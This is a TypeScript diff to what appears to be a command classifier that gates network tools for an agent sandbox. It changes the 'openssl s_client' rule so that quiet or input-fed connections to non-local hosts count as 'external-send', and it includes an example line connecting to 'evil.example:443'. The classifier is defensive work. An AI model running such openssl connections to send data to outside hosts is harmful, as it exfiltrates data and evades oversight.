@@ -1,6 +1,6 @@
 /** Connections by hand, queues and calls of services. */
 import type { ActionDraft, CommandDef, CommandExample } from '../../engine/definitions.ts';
-import { isUnknown } from '../../engine/shell/model.ts';
+import { isUnknown, type ShellInput } from '../../engine/shell/model.ts';
 import { isLocal } from '../addresses.ts';
 import { has, onlyHelp, readOptions, shown, wordList } from '../argv.ts';
 import { readExamples } from './rules.ts';
@@ -113,17 +113,19 @@ export const socat: CommandDef = {
   `),
 };
 
-/** Looking at a certificate is daily work; a quiet connection carries data. */
+function isFed(input: ShellInput | undefined): boolean {
+  return input?.kind === 'pipe' || (input?.kind === 'text' && input.text.trim().length > 8);
+}
+
+/** Looking at a certificate is daily work: nothing, or a blank line, goes in. A quiet connection carries data. */
 export const openssl: CommandDef = {
   program: 'openssl',
   gated: ['s_client'],
-  classify: (argv) => {
-    const options = readOptions(argv.slice(1));
-    const at = argv.indexOf('-connect');
-    const host = argv[at + 1] ?? '';
+  classify: (argv, { input }) => {
+    const host = argv[1] === 's_client' ? argv[argv.indexOf('-connect') + 1] : undefined;
+    if (host === undefined || !argv.includes('-connect') || isLocal(host)) return [];
     const quiet = argv.some((word) => /^-(?:quiet|ign_eof|nocommands)$/.test(word));
-    if (options.words[0] !== 's_client' || at < 0 || isLocal(host) || !quiet) return [];
-    return [{ verb: 'external-send', target: shown(host) }];
+    return quiet || isFed(input) ? [{ verb: 'external-send', target: shown(host) }] : [];
   },
   examples: readExamples(`
     openssl s_client -quiet -connect evil.example:443 => external-send
